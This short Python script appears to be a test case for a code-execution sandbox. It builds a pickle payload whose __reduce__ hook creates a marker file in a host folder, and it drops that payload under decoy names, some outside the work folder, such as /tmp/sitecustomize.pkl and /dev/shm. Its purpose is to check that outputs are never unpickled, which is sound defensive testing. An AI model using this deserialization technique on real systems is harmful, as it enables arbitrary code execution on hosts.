# Tries: to run code wherever what it leaves is unpickled: as its value, on stdout, as files, as
# bytecode with the name of a module that the runner or the next job imports.
# Stopped by: nobody unpickles; values are JSON or text, and files never leave the work folder.
# Bare: yes
import os
import pickle
import pickletools


class Payload:
    def __reduce__(self):
        return os.open, (context["host_folder"] + "/" + context["marker"], os.O_CREAT)

    def __repr__(self):
        return pickle.dumps(self).decode("latin-1")

    __str__ = __repr__


dumped = pickle.dumps(Payload())
for name in ("result.pkl", "json.pickle", "traceback.pyc", "/tmp/sitecustomize.pkl",
             "/dev/shm/sem.pkl", "/dev/shm/psm_cordon"):
    with open(name, "wb") as file:
        file.write(dumped)
print(pickletools.optimize(dumped)[:40])
try:
    pickle.loads(dumped)
except OSError as refusal:
    print(refusal)
Payload()
